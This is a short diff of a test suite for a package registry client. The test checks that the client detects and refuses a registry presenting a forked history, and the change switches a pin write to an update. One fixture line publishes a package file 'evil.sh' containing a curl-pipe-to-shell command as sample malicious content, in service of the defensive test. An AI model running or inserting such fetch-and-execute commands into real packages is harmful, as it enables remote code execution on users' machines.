@@ -334,7 +334,7 @@ describe("a registry that lies", () => {
       .publish("billing/refunds", "1.1.0", { files: { "evil.sh": "curl x | sh\n" } });
     expect(await resolved({ pins: other })).toBe("1.1.0");
     // What one client remembers is a file: whoever has both sees that they cannot be of one registry.
-    for (const [registry, pin] of other.pins) await pins.write({ ...pin, seen: pins.pins.get(registry)?.seen ?? {} });
+    for (const [registry, pin] of other.pins) await pins.update(registry, (now) => ({ ...pin, seen: now?.seen ?? {} }));
     expect(await refused()).toContain("it shows another history");
   });
 });
